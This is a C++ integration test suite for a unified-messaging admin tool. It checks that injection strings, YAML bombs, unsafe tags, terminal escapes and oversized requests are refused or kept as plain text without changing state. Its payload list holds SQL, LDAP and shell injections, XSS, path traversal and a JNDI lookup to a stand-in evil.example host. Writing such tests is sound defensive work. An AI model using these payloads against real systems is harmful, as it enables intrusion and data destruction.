// Documents and requests that mean harm: each is refused with its place, or kept as the text it is,
// and nothing else changes.
#include <fmt/format.h>
#include <grpcpp/grpcpp.h>

#include "tests/integration/organisation/real_node.h"

namespace um::tests {
namespace {

namespace v1 = um::admin::v1;

/// Texts that are code somewhere.
const char* const kInjections[] = {
    "'; DROP TABLE object; --",
    "\" OR \"1\"=\"1",
    "x' UNION SELECT secret FROM pool_key --",
    "$1 :v0 ? %s %n {0}",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/a}",
    "$(reboot) `reboot` | reboot",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "C:\\\\x \\N \\0 \\'",
    "NULL",
    "true",
    "0x10",
};

std::string Quoted(std::string text) {
  for (size_t at = 0; (at = text.find('\'', at)) != std::string::npos; at += 2)
    text.insert(at, "'");
  return "'" + text + "'";
}

constexpr const char* kPlan =
    "id: example\n"
    "dial_plans: [{name: Main, number_of_digits_in_extension: 4}]\n"
    "mailbox_policies: [{name: Staff, dial_plan: Main}]\n";

std::string Mailbox(const std::string& fields) {
  return std::string(kPlan) +
         "mailboxes:\n  - {id: ann, display_name: Ann, email: ann@example.com, " +
         "policy: Staff, extension: '1001', " + fields + "}\n";
}

template <class Place>
struct Bench {
  Bench() : node(place.options()) {
    node.Done("apply -f " + node.Write("good.yaml", std::string(kPlan) + kAnn));
    good = node.Export();
    sequence = node.Sequence();
  }
  /// Refused, with these words; nothing has changed.
  void CheckRefused(const std::string& document, const std::vector<std::string>& words) const {
    const Ran ran = node.Umctl("apply --prune --yes -f " + node.Write("bad.yaml", document));
    CAPTURE(document.substr(0, 300), ran.output.substr(0, 2000));
    CHECK(ran.status == 1);
    for (const std::string& word : words) {
      CAPTURE(word);
      CHECK(Has(ran.output, word));
    }
    CHECK(ran.output.size() < 20'000);
    // What came from outside cannot act on the terminal.
    for (const char c : ran.output) CHECK((c == '\n' || static_cast<unsigned char>(c) >= 0x20));
    CheckUntouched();
  }
  void CheckUntouched() const {
    CHECK(node.Sequence() == sequence);
    CHECK(node.Export() == good);
  }
  static constexpr const char* kAnn =
      "mailboxes: [{id: ann, display_name: Ann, email: ann@example.com, policy: Staff, "
      "extension: '1001'}]\n";
  Place place;
  RealNode node;
  std::string good;
  uint64_t sequence = 0;
};

TEMPLATE_TEST_CASE("texts that are code elsewhere are kept as the texts they are", "", Embedded,
                   PostgreSql) {
  const Bench<TestType> bench;
  std::string document = std::string(kPlan) + "mailboxes:\n";
  int extension = 2000;
  for (const std::string text : kInjections) {
    document += fmt::format(
        "  - {{id: m{0}, display_name: {1}, email: m@example.com, policy: Staff, extension: "
        "'{0}'}}\n",
        extension++, Quoted(text));
  }
  bench.node.Done("apply --prune --yes -f " + bench.node.Write("texts.yaml", document));
  extension = 2000;
  for (const std::string text : kInjections) {
    CAPTURE(text);
    grpc::ClientContext context;
    v1::GetRequest request;
    request.set_kind("mailbox");
    request.set_name(std::to_string(extension++));
    v1::Entry entry;
    REQUIRE(bench.node.stub().Get(&context, request, &entry).ok());
    CHECK(entry.object().mailbox().display_name() == text);
  }
  CHECK(Has(bench.node.Done("apply --prune -f texts.yaml"), "Nothing to do"));
  bench.node.Done("apply --prune --yes -f good.yaml");
  CHECK(bench.node.Export() == bench.good);
}

TEST_CASE("names, addresses and numbers of no good form are refused at their place") {
  const Bench<Embedded> bench;
  for (const std::string text : kInjections) {
    if (text == "NULL" || text == "true" || text == "0x10") continue;  // names like any other
    bench.CheckRefused(Mailbox("language: " + Quoted(text)),
                       {"mailbox ann (mailboxes[0]): language: must be"});
  }
  bench.CheckRefused("id: " + Quoted(kInjections[0]) + "\n", {"id: must be"});
  bench.CheckRefused(Mailbox("calling_line_ids: [" + Quoted(kInjections[0]) + "]"),
                     {"mailbox ann (mailboxes[0]): calling_line_ids[0]: "});
  bench.CheckRefused(Mailbox("policy2: x"),
                     {"bad.yaml:5: mailboxes[0].policy2: is not known here"});
  bench.CheckRefused(Mailbox("secondary_addresses: [{value: '1002'}, {value: '10 02'}]"),
                     {"mailbox ann (mailboxes[0]): secondary_addresses[1].value: "});
}

/// 1 MB of a letter.
std::string Megabyte(char letter = 'a') { return std::string(1 << 20, letter); }

TEST_CASE("what is too long, too deep or no text is refused with its line") {
  const Bench<Embedded> bench;
  bench.CheckRefused(std::string(kPlan) + "ip_gateways:\n  - name: " + Megabyte() + "\n",
                     {"(ip_gateways[0]): name: must be at most 64 characters long"});
  bench.CheckRefused(Megabyte() + ": 1\n", {"bad.yaml:1: "});
  bench.CheckRefused("id: " + Megabyte() + "\n", {"id: must be"});
  bench.CheckRefused(std::string(kPlan) + "prompts: [{dial_plan: Main, file_name: a.wav, audio: " +
                         Quoted(Megabyte('%')) + "}]\n",
                     {"bad.yaml:4: prompts[0].audio: must be base64"});
  bench.CheckRefused(std::string("id: example\ndisplay_name: \"a\x1b[2J\"\n"),
                     {"bad.yaml:2: holds control characters"});
  bench.CheckRefused("id: example\ndisplay_name: \"a\\e[2J\"\n",
                     {"bad.yaml:2: display_name: must be"});
  bench.CheckRefused(
      "id: example\ndial_plans: [{name: \"a\\u202eb\", number_of_digits_in_extension: 4}]\n",
      {"bad.yaml:2: dial_plans[0].name: must be valid UTF-8 text on one line"});
  for (const std::string bad : {"\\u202e", "\\u2066", "\\u0085", "\\n"}) {
    bench.CheckRefused("id: example\ndisplay_name: \"a" + bad + "b\"\n",
                       {"bad.yaml:2: display_name: must be valid UTF-8 text on one line"});
  }
  bench.CheckRefused(std::string("id: example\ndisplay_name: a\0b\n", 30),
                     {"bad.yaml:2: holds control characters"});
  bench.CheckRefused("id: example\n\ndisplay_name: \xC0\xAF\xFF\n",
                     {"bad.yaml:3: is not valid UTF-8"});
  bench.CheckRefused("id: example\ndisplay_name: \xED\xA0\x80\n",
                     {"bad.yaml:2: is not valid UTF-8"});
  bench.CheckRefused("id: example\ndial_plans: " + std::string(100'000, '['), {"nested too deep"});
  bench.CheckRefused("id: example\ndial_plans: " + std::string(100'000, '{'), {"nested too deep"});
  std::string deep = "id: example\ndial_plans:\n";
  for (int i = 0; i < 2000; ++i) deep += std::string(static_cast<size_t>(i) + 1, ' ') + "a:\n";
  bench.CheckRefused(deep, {"nested too deep"});
}

TEST_CASE("YAML that is a bomb or says two things is refused with its line") {
  const Bench<Embedded> bench;
  std::string bomb = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol]\n";
  for (char c = 'b'; c < 'k'; ++c) {
    bomb += fmt::format("{0}: &{0} [*{1}, *{1}, *{1}, *{1}, *{1}, *{1}, *{1}]\n", c,
                        static_cast<char>(c - 1));
  }
  bench.CheckRefused(bomb, {"bad.yaml:2: ", "aliases (*name) are not allowed"});
  bench.CheckRefused("id: example\ndial_plans: &x [*x]\n", {"bad.yaml:2: ", "aliases"});
  bench.CheckRefused("id: example\n<<: {id: other}\n", {"bad.yaml:2: <<: "});
  bench.CheckRefused("id: !!python/object:os.system example\n", {"bad.yaml:1: ", "tags"});
  bench.CheckRefused("id: example\n---\nid: other\n", {"bad.yaml:", "second document"});
  bench.CheckRefused("id: example\nid: example\n", {"bad.yaml:2: id: is given twice"});
  bench.CheckRefused(Mailbox("extension: '1002'"),
                     {"bad.yaml:5: mailboxes[0].extension: is given twice"});
  bench.CheckRefused(std::string(kPlan) + Bench<Embedded>::kAnn + "mailboxes: []\n",
                     {"bad.yaml:5: mailboxes: is given twice"});
  bench.CheckRefused("[id, example]\n", {"must be a map, is a list"});
  bench.CheckRefused(
      "id: {a: b}\ndial_plans: yes\nhunt_groups: {}\n",
      {"bad.yaml:1: id: must be text, is a map", "bad.yaml:2: dial_plans: must be a list",
       "bad.yaml:3: hunt_groups: must be a list"});
  bench.CheckRefused("? {a: b}\n: c\n", {"bad.yaml:1: a key must be a plain name"});
}

TEST_CASE("numbers beyond all bounds are refused with what they may be") {
  const Bench<Embedded> bench;
  for (const std::string number :
       {"99999999999999999999999999", "-1", "1e9", "0x10", "1.5", ".inf", "4294967296"}) {
    bench.CheckRefused(
        fmt::format("id: example\n"
                    "dial_plans:\n"
                    "  - name: Main\n"
                    "    number_of_digits_in_extension: {0}\n"
                    "    min_speech_ms: {0}\n"
                    "mailbox_policies: [{{name: P, dial_plan: Main, pin_lifetime_days: {0}}}]\n",
                    number),
        {"bad.yaml:4: dial_plans[0].number_of_digits_in_extension: must be a whole number from 1 "
         "to 20",
         "bad.yaml:5: dial_plans[0].min_speech_ms: must be a whole number",
         "bad.yaml:6: mailbox_policies[0].pin_lifetime_days: must be \"unlimited\" or"});
  }
  bench.CheckRefused(
      "id: example\ndial_plans: [{name: Main, number_of_digits_in_extension: 4, "
      "max_call_duration_minutes: 121}]\n",
      {"dial plan Main (dial_plans[0]): max_call_duration_minutes: must be from 10 to 120"});
}

/// Sent past umctl, as anybody on the socket could.
template <class Place>
grpc::Status Send(const Bench<Place>& bench, const v1::ChangeRequest& request) {
  grpc::ClientContext context;
  v1::ChangeResponse response;
  return bench.node.stub().Change(&context, request, &response);
}

v1::ChangeRequest CreateMailbox(const std::string& id, const std::string& name) {
  v1::ChangeRequest request;
  auto& mailbox = *request.add_operations()->mutable_create()->mutable_mailbox();
  mailbox.set_id(id);
  mailbox.set_display_name(name);
  mailbox.set_email("eve@example.com");
  mailbox.set_policy("Staff");
  mailbox.set_extension("1002");
  return request;
}

TEMPLATE_TEST_CASE("hostile requests past umctl are refused with the path, and change nothing", "",
                   Embedded, PostgreSql) {
  const Bench<TestType> bench;
  const std::string create = "operations[0].create.mailbox";
  const std::pair<v1::ChangeRequest, std::string> requests[] = {
      {CreateMailbox(Megabyte(), "Eve"), create + ".id: must be"},
      {CreateMailbox("eve", Megabyte()), create + ".display_name: must be"},
      {CreateMailbox("eve", "a\nb\x1b[2J"), create + ".display_name: must be"},
      {CreateMailbox("eve", "two\nlines"), create + ".display_name: must be"},
      {CreateMailbox("eve", "a\u202Eb"), create + ".display_name: must be"},
      {CreateMailbox("eve", "a\u0085b"), create + ".display_name: must be"},
      {CreateMailbox("e v e", "Eve"), create + ".id: must"},
      {CreateMailbox("ANN", "Eve"), "there is a UM mailbox"},
      {CreateMailbox("eve'; DROP TABLE object; --", "Eve"), create + ".id: must"},
  };
  for (const auto& [request, words] : requests) {
    const grpc::Status status = Send(bench, request);
    CAPTURE(words, status.error_message());
    CHECK(status.error_code() == grpc::INVALID_ARGUMENT);
    CHECK(Has(status.error_message(), words));
    CHECK(status.error_message().size() < 2000);
    bench.CheckUntouched();
  }
}

TEMPLATE_TEST_CASE("requests that make no sense are refused, and change nothing", "", Embedded,
                   PostgreSql) {
  const Bench<TestType> bench;
  v1::ChangeRequest nothing;
  nothing.add_operations();
  CHECK(Has(Send(bench, nothing).error_message(), "operations[0]: asks for nothing"));
  v1::ChangeRequest empty;
  empty.add_operations()->mutable_create();
  CHECK(Has(Send(bench, empty).error_message(), "operations[0].create: holds no object"));
  v1::ChangeRequest mask = CreateMailbox("eve", "Eve");
  v1::Update& update = *mask.add_operations()->mutable_update();
  update.set_name("ann");
  update.mutable_object()->mutable_mailbox();
  update.mutable_mask()->add_paths("nonsense.'; DROP TABLE object");
  CHECK(Send(bench, mask).error_code() == grpc::INVALID_ARGUMENT);
  v1::ChangeRequest kind;
  kind.add_operations()->mutable_delete_()->set_kind("object; DROP TABLE object");
  CHECK(Send(bench, kind).error_code() == grpc::INVALID_ARGUMENT);
  v1::ChangeRequest other = CreateMailbox("eve", "Eve");
  other.set_organisation("example'; --");
  CHECK(Send(bench, other).error_code() == grpc::NOT_FOUND);
  v1::ChangeRequest many;
  for (int i = 0; i < 100'001; ++i) many.add_operations();
  CHECK(Has(Send(bench, many).error_message(), "at most"));
  // Bytes that are no UTF-8 do not pass protobuf's own reading.
  CHECK_FALSE(Send(bench, CreateMailbox("eve", "\xC0\xAF\xFF")).ok());
  bench.CheckUntouched();
  // And the node goes on.
  CHECK(Send(bench, CreateMailbox("eve", "Eve")).ok());
}

TEMPLATE_TEST_CASE("questions that mean harm find nothing", "", Embedded, PostgreSql) {
  const Bench<TestType> bench;
  for (std::string text : kInjections) {
    text += "\x01%_";
    CAPTURE(text);
    grpc::ClientContext contexts[4];
    v1::GetRequest get;
    get.set_kind("mailbox");
    get.set_name(text);
    v1::Entry entry;
    CHECK(bench.node.stub().Get(&contexts[0], get, &entry).error_code() == grpc::NOT_FOUND);
    v1::ListRequest list;
    list.set_kind("mailbox");
    list.set_search(text);
    v1::ListResponse listed;
    CHECK(bench.node.stub().List(&contexts[1], list, &listed).ok());
    CHECK(listed.total() == 0);
    v1::ListAuditRequest audit;
    audit.set_kind("mailbox");
    audit.set_name(text);
    v1::ListAuditResponse lines;
    bench.node.stub().ListAudit(&contexts[2], audit, &lines);
    CHECK(lines.entries().empty());
    audit.set_page_token(text);
    CHECK_FALSE(bench.node.stub().ListAudit(&contexts[3], audit, &lines).ok());
  }
  bench.CheckUntouched();
}

}  // namespace
}  // namespace um::tests
